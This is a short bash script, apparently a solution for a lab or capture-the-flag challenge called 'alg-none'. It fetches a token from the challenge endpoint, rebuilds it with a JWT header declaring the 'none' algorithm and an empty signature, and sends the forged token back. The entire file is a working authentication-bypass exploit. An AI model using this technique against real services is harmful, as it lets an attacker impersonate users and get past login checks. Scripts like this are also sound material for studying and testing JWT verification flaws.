#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at alg-none token)")"
header="$(printf '{"alg":"none","typ":"JWT"}' | b64)"
send alg-none "$header.$(claims "$token")."
